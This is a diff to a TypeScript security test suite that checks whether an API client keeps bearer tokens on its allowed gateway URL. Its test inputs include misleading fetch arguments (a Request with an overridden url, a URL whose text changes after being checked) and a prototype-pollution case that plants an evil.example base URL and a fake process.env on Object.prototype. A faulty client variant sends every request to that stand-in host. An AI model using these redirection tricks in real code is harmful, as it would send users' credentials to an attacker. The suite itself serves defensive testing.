@@ -4,15 +4,15 @@ import type { Fault } from "../subjects/faults.ts";
 import { GATEWAY, gateways } from "./gateway.ts";
 import { empty, last } from "./steps.ts";
 
-const HOME = `${GATEWAY}/models`;
-const EVIL = "https://evil.example/v1/models";
+const ALLOWED = `${GATEWAY}/models`;
+const OTHER = "https://evil.example/v1/models";
 
-/** Arguments of `fetch` of which one part leads home and another elsewhere. */
+/** Arguments of `fetch` that name both the right URL and another one. */
 interface Misleading {
   readonly id: string;
   readonly title: string;
   readonly source: string;
-  /** Whether a client may refuse them. */
+  /** Set if a client may refuse them. */
   readonly mayRefuse?: true;
   args(): [input: RequestInfo | URL, init?: RequestInit];
 }
@@ -22,7 +22,7 @@ function misleading({ args, mayRefuse, ...about }: Misleading): Case {
     ...about,
     id: `containment/${about.id}`,
     needs: ["fetch"],
-    answer: empty,
+    handle: empty,
     async run(subject, context) {
       const connections = await gateways(subject, context);
       for (const { fetch } of connections) {
@@ -31,49 +31,48 @@ function misleading({ args, mayRefuse, ...about }: Misleading): Case {
         await (mayRefuse ? attempt.catch(() => {}) : attempt);
       }
       if (!mayRefuse) ok(context.sent.length === connections.length, "Nothing was sent");
-      stayedHome(context);
+      assertOnlyAllowed(context);
     },
-    negative: leadsAstray,
+    negative: sendsElsewhere,
   };
 }
 
-/** Sends whatever `fetch` is given elsewhere. */
-const leadsAstray: Fault = (subject) => ({
+/** Sends every call of `fetch` to another host. */
+const sendsElsewhere: Fault = (subject) => ({
   ...subject,
   async connect(options, transport) {
     const connection = await subject.connect(options, transport);
-    return { ...connection, fetch: () => transport(EVIL) };
+    return { ...connection, fetch: () => transport(OTHER) };
   },
 });
 
-function stayedHome({ sent }: Context): void {
-  for (const { url } of sent) ok(url === HOME, `A credential was sent to ${url}`);
+function assertOnlyAllowed({ sent }: Context): void {
+  for (const { url } of sent) ok(url === ALLOWED, `A credential was sent to ${url}`);
 }
 
 const misleadings: readonly Misleading[] = [
   {
     id: "url-of-an-init-is-ignored",
-    title: "A `url` in the init of a Request does not lead it elsewhere",
+    title: "A `url` in the init of a Request is ignored",
     source: "https://fetch.spec.whatwg.org/#requestinit",
-    args: () => [new Request(HOME), { url: EVIL } as RequestInit],
+    args: () => [new Request(ALLOWED), { url: OTHER } as RequestInit],
   },
   {
     id: "request-that-names-another-url",
-    title:
-      "A Request goes where the platform would send it, or nowhere, whatever its own `url` says",
+    title: "A Request whose `url` was overridden goes where the platform would send it, or nowhere",
     source: "https://fetch.spec.whatwg.org/#dom-request-url",
     mayRefuse: true,
-    args: () => [Object.defineProperty(new Request(EVIL), "url", { value: HOME })],
+    args: () => [Object.defineProperty(new Request(OTHER), "url", { value: ALLOWED })],
   },
   {
     id: "url-whose-text-changes",
-    title: "An object whose text changes leads to the URL that was checked, or nowhere",
+    title: "An object whose text changes is sent to the URL that was checked, or nowhere",
     source: "https://fetch.spec.whatwg.org/#dom-global-fetch",
     mayRefuse: true,
     args() {
       let reads = 0;
-      return [Object.defineProperty(new URL(HOME), "toString", {
-        value: () => reads++ ? EVIL : HOME,
+      return [Object.defineProperty(new URL(ALLOWED), "toString", {
+        value: () => reads++ ? OTHER : ALLOWED,
       })];
     },
   },
@@ -81,11 +80,11 @@ const misleadings: readonly Misleading[] = [
 
 const polluted: Case = {
   id: "containment/variable-on-the-root-prototype",
-  title: "A base URL that a merge of JSON has left on Object.prototype leads no request elsewhere",
+  title: "A base URL on a polluted Object.prototype is ignored",
   source: "https://cwe.mitre.org/data/definitions/1321.html",
   own: true,
   needs: ["fetch"],
-  answer: empty,
+  handle: empty,
   async run(subject, context) {
     const { region, bearerToken: apiKey } = context;
     // A client reads its configuration at once
@@ -94,17 +93,20 @@ const polluted: Case = {
     await fetch(`https://bedrock-mantle.${region}.api.aws/openai/v1/models`);
     equal(new URL(last(context).url).host, `bedrock-mantle.${region}.api.aws`, "Sent to");
   },
-  negative: leadsAstray,
+  negative: sendsElsewhere,
 };
 
 function withPolluted<T>(run: () => T): T {
-  const name = "AWS_BEDROCK_BASE_URL";
-  const root = Object.prototype as unknown as Record<string, unknown>;
-  Object.defineProperty(root, name, { configurable: true, value: "https://evil.example/v1" });
+  const variables = { AWS_BEDROCK_BASE_URL: "https://evil.example/v1" };
+  // Browsers have no `process`: one could be made up for them
+  const polluted = { ...variables, process: { env: variables } };
+  for (const [name, value] of Object.entries(polluted)) {
+    Object.defineProperty(Object.prototype, name, { configurable: true, value });
+  }
   try {
     return run();
   } finally {
-    delete root[name];
+    for (const name of Object.keys(polluted)) Reflect.deleteProperty(Object.prototype, name);
   }
 }
 
